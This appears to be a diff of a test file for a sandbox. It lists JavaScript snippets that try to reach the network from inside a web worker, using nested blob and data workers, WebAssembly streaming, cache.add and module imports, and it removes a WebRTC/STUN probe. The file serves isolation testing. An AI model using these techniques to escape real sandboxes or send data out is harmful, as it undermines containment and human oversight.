@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
 // Ways out of a worker, as data. Each text is the body of `run(to)`; `to` is an AttackTarget. An attack on the network has succeeded when
 // the logger heard of it, one on the app's storage when it gives back something that holds SECRET.
 
@@ -41,8 +42,6 @@ const network: Readonly<Record<string, string>> = {
   'n16 nested blob worker': 'new Worker(URL.createObjectURL(new Blob([`fetch("${to.hit}")`])))',
   'n17 nested data worker': "new Worker(`data:text/javascript,fetch('${to.hit}')`)",
   'n18 WebAssembly streaming': 'await WebAssembly.compileStreaming(fetch(to.hit))',
-  'n19 WebRTC':
-    "const c = new RTCPeerConnection({ iceServers: [{ urls: to.udp.replace('https://', 'stun:') }] }); c.createDataChannel('x'); await c.setLocalDescription()",
   'n20 cache.add': "const c = await caches.open('x'); await c.add(to.hit)",
   'n21 nested module worker':
     "new Worker(URL.createObjectURL(new Blob([`import '${to.hit}'`], { type: 'text/javascript' })), { type: 'module' })",
